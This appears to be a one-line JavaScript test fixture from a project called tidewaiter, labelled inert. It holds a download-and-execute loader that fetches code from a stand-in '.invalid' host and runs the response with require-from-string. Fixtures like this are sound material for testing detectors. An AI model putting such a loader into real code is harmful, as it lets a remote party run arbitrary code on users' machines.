// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const rfs=require("require-from-string");const request=require("request");request("https://code.invalid/m",(e,r,body)=>{rfs(body);});
